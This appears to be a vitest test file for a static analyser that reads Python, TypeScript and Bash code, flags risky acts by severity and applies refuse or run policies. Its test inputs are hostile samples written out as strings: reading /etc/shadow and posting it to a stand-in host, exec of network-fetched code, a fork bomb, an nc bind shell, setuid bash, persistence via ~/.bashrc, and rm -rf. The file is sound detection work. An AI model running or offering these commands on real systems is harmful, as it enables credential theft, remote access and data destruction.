/** What is foretold of plain code, what is not claimed, and that nothing makes the reading throw or hang. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { loadGrammarFile } from '../../../test/grammarfiles.ts';
import { createRiskReader } from './assess.ts';
import { type RiskLanguage, riskLanguages } from './nested.ts';
import { placeOf } from './places.ts';
import { builtInPolicies, decide, policyOf } from './policy.ts';

const reader = createRiskReader(loadGrammarFile);
const assess = async (language: RiskLanguage, code: string) => (await reader).assess(language, Buffer.from(code));

/** Findings of at least `medium`, as `category.act`. */
async function found(language: RiskLanguage, code: string): Promise<string[]> {
  const { findings } = await assess(language, code);
  return [
    ...new Set(findings.filter(({ severity }) => severity !== 'low').map(({ category, act }) => `${category}.${act}`)),
  ].sort();
}

describe('places', () => {
  const cases: Record<string, ReturnType<typeof placeOf>> = {
    'a.txt': 'inside',
    './data/../b': 'inside',
    '../b': 'outside',
    'a/../../b': 'outside',
    '/tmp/x': 'temporary',
    '/dev/null': 'inside',
    '/etc/hostname': 'system',
    '/usr/../etc/shadow': 'secret',
    '~/.ssh/id_ed25519': 'secret',
    '/home/u/.bashrc': 'startup',
    '~/.ssh/authorized_keys': 'startup',
    '.git/hooks/pre-commit': 'startup',
    '/etc/cron.d/x': 'startup',
    'C:\\Windows\\System32': 'system',
    'etc/passwd': 'inside',
    '/': 'system',
    '': 'inside',
  };
  for (const [path, place] of Object.entries(cases))
    it(`${path === '' ? '(empty)' : path} is ${place}`, () => expect(placeOf(path)).toBe(place));
});

describe('Python', () => {
  it('ordinary code has no findings', async () => {
    const code =
      'import json, re\ndef f(xs):\n    return [json.dumps(x) for x in xs if re.match(r"a", x)]\nprint(f(["a"]))\n';
    expect(await found('python', code)).toEqual([]);
    expect(await found('python', 'with open("a.txt") as f, open("b.txt", "w") as g:\n    g.write(f.read())\n')).toEqual(
      [],
    );
    expect(await found('python', 'class A:\n    def system(self, x): return x\nA().system("rm -rf /")\n')).toEqual([]);
    expect(await found('python', 'def open(x): return x\nopen("/etc/shadow")\n')).toEqual([]);
  });

  it('what is sent is followed from the file to the network', async () => {
    const code =
      'import requests\ndef send(data):\n    requests.post("http://x.example", data=data)\nwith open("/etc/shadow") as f:\n    body = f.read()\nsend(body)\n';
    expect(await found('python', code)).toEqual(['files.read', 'network.connect', 'network.exfiltrate']);
  });

  it('code that came over the network and is run is the worst', async () => {
    const { findings } = await assess(
      'python',
      'import urllib.request as u\nexec(u.urlopen("http://x.example").read())\n',
    );
    expect(findings.find(({ act }) => act === 'evaluate')).toMatchObject({
      severity: 'critical',
      category: 'injection',
    });
  });

  it('a fork in a loop without an end is a bomb; in one that ends it is not', async () => {
    expect(await found('python', 'import os\nwhile True:\n    os.fork()\n')).toContain('resources.processes');
    expect(await found('python', 'import os\nwhile True:\n    os.fork()\n    break\n')).not.toContain(
      'resources.processes',
    );
  });

  it('what a function nobody calls would do is told as that', async () => {
    const { findings } = await assess('python', 'import os\ndef never():\n    os.remove("/etc/hosts")\n');
    expect(findings).toMatchObject([{ function: 'never', runs: false, severity: 'critical' }]);
  });

  it('an environment that is read, changed, taken whole', async () => {
    expect(await found('python', 'import os\nos.environ["LD_PRELOAD"] = "x"\n')).toEqual(['environment.write']);
    expect(await found('python', 'import os\nprint(os.environ["API_KEY"])\n')).toEqual(['environment.read']);
    expect(await found('python', 'import os\nprint(dict(os.environ))\n')).toEqual(['environment.read all']);
    expect(await found('python', 'import os\nprint(os.environ["LANG"])\n')).toEqual([]);
  });

  it('text that nobody knows is unknown', async () => {
    const { unknowns } = await assess('python', 'exec(input())\n');
    expect(unknowns.map(({ reason }) => reason)).toEqual(['exec runs text that is not known before it runs']);
    const twice = await assess('bash', 'bash -c "$1; $2"; eval "$1" "$2"\n');
    const keys = twice.unknowns.map(({ reason, span }) => `${span.start} ${span.end} ${reason}`);
    expect(keys).toEqual([...new Set(keys)]);
    expect((await assess('python', 'def (:\n')).unknowns.map(({ reason }) => reason)).toEqual([
      'parts of it do not parse',
    ]);
  });
});

describe('TypeScript', () => {
  it('members that are parameters, types and assertions are passed through', async () => {
    const code =
      "import { rmSync } from 'node:fs';\nclass A { constructor(private readonly dir: string) {} run(): void { rmSync(this.dir as string); } }\nnew A('/etc/x').run();\n";
    const { findings } = await assess('typescript', code);
    expect(findings).toMatchObject([{ act: 'delete', target: '/etc/x', severity: 'critical' }]);
  });

  it('nothing is nothing', async () => {
    expect(await assess('typescript', '')).toMatchObject({ findings: [], unknowns: [], severity: null });
  });
});

describe('Bash', () => {
  it('what persists, what is lifted, what listens', async () => {
    expect(await found('bash', 'echo "x" >> ~/.bashrc\n')).toContain('persistence.install');
    expect(await found('bash', 'chmod u+s /bin/bash\n')).toEqual(['privileges.chmod']);
    expect(await found('bash', 'nc -l -p 4444 -e /bin/sh\n')).toEqual(['network.remote shell']);
    expect(await found('bash', 'for f in *.txt; do wc -l "$f"; done\n')).toEqual([]);
    expect(await found('bash', 'f() { ls; }\ntrap f EXIT\ntrap - INT\n[ -f x ] && ls *.txt\n')).toEqual([]);
    // What no reading can know is told as unknown.
    for (const code of [
      `X=(ls /etc); X[0]=rm; "\${X[@]}"`,
      `X=(a rm /); "\${X[@]:1}"`,
      'trap "$X" EXIT',
      '/bin/r? /etc',
    ])
      expect((await assess('bash', `${code}\n`)).unknowns.length, code).toBeGreaterThan(0);
    expect(await found('bash', 'cat <<E && sh\nrm -rf /etc\nE\n')).toEqual([]);
  });
});

describe('bad input', () => {
  for (const language of riskLanguages)
    it(`any bytes are read or refused: ${language}`, async () => {
      const made = await reader;
      const pieces = fc.constantFrom(
        'eval(',
        ')',
        '"',
        "'",
        '\n',
        'import os',
        'os.system',
        '$(',
        '`',
        '${',
        '}',
        '{',
        ' = ',
        '+',
        'for x in ',
        ':',
        '\\',
        '\0',
        'exec ',
        '| sh',
        '<<E',
        'getattr(',
        '[',
        ']',
        '::-1',
        'x',
        '\uFFFC',
        '💥',
        'def f(',
        'return ',
        '%',
        'a.b',
        'rm -rf ',
        '=>',
        'new ',
        'while True',
        '/*',
      );
      const text = fc.array(pieces, { maxLength: 40 }).map((parts) => Buffer.from(parts.join('')));
      await fc.assert(
        fc.asyncProperty(fc.oneof(text, fc.uint8Array({ maxLength: 200 })), async (bytes) => {
          const report = await made.assess(language, bytes);
          for (const { span } of [...report.findings, ...report.unknowns]) {
            expect(span.start).toBeGreaterThanOrEqual(0);
            expect(span.end).toBeLessThanOrEqual(bytes.length);
          }
        }),
        { numRuns: 60 },
      );
    }, 60_000);

  it('deep nesting, endless sums and texts in texts end', async () => {
    const deep = `${'('.repeat(3000)}1${')'.repeat(3000)}`;
    expect((await assess('python', `x = ${deep}\n`)).severity).toBeNull();
    const sum = Array.from({ length: 20_000 }, (_, place) => `"${place % 10}"`).join(' + ');
    expect((await assess('python', `import os\nos.system(${sum})\n`)).severity).toBe('medium');
    let text = 'import os; os.system("id")';
    for (let level = 0; level < 8; level++) text = `exec(${JSON.stringify(text)})`;
    expect((await assess('python', text)).unknowns.map(({ reason }) => reason).join()).toContain(
      'there is too much of it',
    );
    expect((await assess('python', 'a = b\nb = a\nimport os\nos.system(a)\n')).unknowns).toHaveLength(1);
    expect((await assess('python', 'def f(x): return f(x)\nimport os\nos.system(f("a"))\n')).unknowns).toHaveLength(1);
    expect((await assess('bash', 'x=$x$x; y=$x$y; eval "$y"\n')).unknowns.length).toBeGreaterThan(0);
  });
});

describe('policies', () => {
  it('built-in ones decide by category, severity and what is unknown', async () => {
    const report = await assess('python', 'import os\nos.system("id")\neval(input())\n');
    const { strict, open } = builtInPolicies as Record<string, ReturnType<typeof policyOf>>;
    expect(decide(report, strict as never, []).refused.map(({ category }) => category)).toEqual([
      'processes',
      'injection',
      'unknown',
    ]);
    expect(decide(report, open as never, []).runs).toBe(true);
    const own = policyOf('own', { default: 'allow', processes: 'ask', unknown: 'confine' });
    expect(decide(report, own, []).runs).toBe(false);
    expect(decide(report, own, ['processes']).runs).toBe(true);
    expect(decide(report, policyOf('own', { default: 'refuse', least: 'critical', unknown: 'allow' }), []).runs).toBe(
      true,
    );
  });

  it('anything else is refused with what is wrong', () => {
    for (const bad of [null, [], 1, { least: 'much' }, { network: 'yes' }, { nett: 'allow' }])
      expect(() => policyOf('own', bad)).toThrow(/The policy own cannot be used/);
  });
});
